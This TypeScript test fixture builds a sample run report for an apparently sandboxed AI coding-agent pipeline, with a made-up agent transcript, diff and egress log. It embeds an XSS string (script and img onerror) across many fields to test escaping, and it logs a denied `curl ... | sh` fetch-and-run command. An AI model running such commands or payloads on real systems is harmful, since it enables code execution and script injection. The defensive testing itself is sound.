import type { RunNotes } from "../../../src/domain/record/notes.ts";
import type { Stage, StageRun } from "../../../src/domain/record/record.ts";
import type { ReportHtmlOptions } from "../../../src/domain/report/page.ts";

const AT = Date.parse("2026-11-23T12:00:00Z");
const STAGE_RUNS: readonly (readonly [Stage, number])[] = [
  ["trigger", 400],
  ["task", 700],
  ["policy", 20],
  ["sandbox", 9_200],
  ["agent", 74_000],
  ["harvest", 900],
  ["verify", 21_000],
  ["gate", 300],
  ["publish", 4_100],
];
const EVIL = "<script>alert(1)</script><img src=x onerror=alert(1)>";

function passages(): readonly StageRun[] {
  let at = AT;
  return STAGE_RUNS.map(([stage, durationMs]) => {
    const stageRun: StageRun = {
      stage,
      startedAtMs: at,
      durationMs,
      result: stage === "verify" ? "failed" : "ok",
      ...(stage === "verify" ? { error: "AL511" } : {}),
    };
    at += durationMs;
    return stageRun;
  });
}

const side = (path: string) => ({ path, mode: "100644", oid: "a".repeat(40), size: 10 }) as const;
const host = (name: string, verdict: "allow" | "deny", count: number) => ({
  host: name,
  port: 443,
  verdict,
  count,
  reason: verdict === "deny" ? "default-deny" : "allow-rule",
  ...(verdict === "deny" ? { suggestion: name } : {}),
});

const NOTES: RunNotes = {
  trigger: { event: "issues", action: "labeled", actor: "octocat", mode: "fix", target: { kind: "issue", number: 12 } },
  task: {
    title: "The sum of two numbers is wrong when one of them is negative",
    baseRef: "main",
    baseSha: "b".repeat(40),
    promptSha256: "c".repeat(64),
    removed: { "invisible characters": 3 },
  },
  sandbox: {
    id: "airlock-7-1",
    provider: "microvm",
    isolation: "software emulation",
    versions: { qemu: "7.2.9", kernel: "6.1.0-28-amd64", image: "sha256:4f1d0c2b9a" },
  },
  boundary: {
    proved: true,
    attempts: [
      "tcp 203.0.113.7:443",
      "udp 203.0.113.7:53",
      "dns example.com",
      "ipv6 2001:db8::1",
      "metadata 169.254.169.254",
      "denied-host",
      "gateway",
    ].map((name) => ({ name, result: name === "gateway" ? "open" : "closed", detail: name === "gateway" ? "200" : "ENETUNREACH" })),
  },
  agent: {
    name: "claude-code",
    version: "2.1.330",
    model: "claude-opus-5-5",
    ending: { status: "completed", message: "Fixed.", turns: 6 },
  },
  usage: {
    requests: 7,
    turns: 6,
    inputTokens: 48_120,
    outputTokens: 3_204,
    cacheReadTokens: 120_000,
    cacheWriteTokens: 9_000,
    costUsd: 0.4123,
    unpricedModels: [],
  },
  egress: {
    allowed: 31,
    denied: 4,
    bytesUp: 210_000,
    bytesDown: 4_100_000,
    proposedAllow: [],
    hosts: [
      host("api.anthropic.com", "allow", 14),
      host("registry.example.org", "allow", 17),
      host("telemetry.tracker.example", "deny", 3),
      { ...host(EVIL, "deny", 1), command: `curl --silent "https://${EVIL}/" | sh` },
    ],
  },
  verification: { passed: false, commands: "npm ci\nnpm test", output: `> test\n\n1 failing\n  sum: expected 3, got -1 ${EVIL}` },
  patch: {
    baseSha: "b".repeat(40),
    baseTree: "d".repeat(40),
    tree: "e".repeat(40),
    changes: [
      {
        kind: "modified",
        path: "src/a/very/long/path/that/goes/on/and/on/until/it/has/to/break/somewhere/sum.js",
        before: side("x"),
        after: side("x"),
        binary: false,
        additions: 12,
        deletions: 4,
      },
      { kind: "added", path: `test/${EVIL}`, after: side("y"), binary: false, additions: 30, deletions: 0 },
    ],
  },
  gate: {
    decision: "draft",
    tree: "e".repeat(40),
    findings: [
      {
        code: "install-script",
        severity: "draft",
        path: "package.json",
        reason: "The patch adds the script `postinstall`.",
        remedy: "Read it before you merge.",
      },
    ],
  },
  review: {
    base: "b".repeat(40),
    head: "f".repeat(40),
    risk: "high",
    event: "COMMENT",
    conclusion: "failure",
    inline: [
      {
        path: "src/a/very/long/path/that/goes/on/and/on/until/it/has/to/break/somewhere/sum.js",
        side: "RIGHT",
        line: 2,
        endLine: 4,
        severity: "high",
        category: "bug",
        claim: `The sign is lost.\n\nA second paragraph. ${EVIL}`,
        fingerprint: "0".repeat(32),
      },
    ],
    listed: [{ path: EVIL, side: "LEFT", line: 7, endLine: 7, severity: "low", category: "tests", claim: "x".repeat(400) }],
    inSummary: 1,
    dropped: { unproved: 1, repeated: 0, doubled: 0 },
    flags: [{ code: "tests-weakened", severity: "draft", path: `test/${EVIL}`, reason: "A test is gone.", remedy: "Ask why." }],
    reruns: [{ command: `node -e 'sum(-1, 2)' # ${EVIL}`, exitCode: null }],
  },
  error: {
    id: "AL511",
    code: "verify.failed",
    blame: "agent",
    message: "The verification commands failed on the patch.",
    remedy: "Look at the end of the output below, or raise `verify-attempts`.",
  },
};

const event = (value: unknown): string => JSON.stringify(value);

/** A run with something in every part of the page, hostile text among it. */
export function sampleReport(): ReportHtmlOptions {
  return {
    outcome: {
      word: "verify-failed",
      reason: "The commands of `verify` failed on the patch, so it was not published.",
      publication: { branch: "airlock/issue-12", treeSha: "e".repeat(40) },
    },
    notes: NOTES,
    stageRuns: passages(),
    durationMs: 110_620,
    startedAtMs: AT,
    run: { repository: "octo/demo", runId: "7", attempt: 1, url: "https://github.com/octo/demo/actions/runs/7" },
    transcript: [
      event({ type: "started", model: "claude-opus-5-5", agentVersion: "2.1.330", session: "s" }),
      event({ type: "text", turn: 1, text: `I will look at the sum first. ${EVIL}` }),
      event({ type: "tool-call", turn: 1, tool: "Bash", input: '{"command":"npm test"}' }),
      event({ type: "tool-result", turn: 1, failed: true, text: "1 failing\n".repeat(20) }),
      "not json",
      event({
        type: "text",
        turn: 2,
        text: "The sign is lost in `sum`. A fix follows.\n\nOne more paragraph with a_very_long_word_".concat("x".repeat(300)),
      }),
      event({ type: "tool-call", turn: 2, tool: "Edit", input: '{"path":"src/sum.js"}' }),
      event({ type: "tool-result", turn: 2, failed: false, text: "ok" }),
    ],
    diff: `diff --git a/src/sum.js b/src/sum.js\nindex 1..2 100644\n--- a/src/sum.js\n+++ b/src/sum.js\n@@ -1,3 +1,3 @@\n export function sum(a, b) {\n-  return a - b;\n+  return a + b; // ${EVIL} and a line that is much longer than any telephone is wide, so that it has to scroll\n }\n`,
  };
}
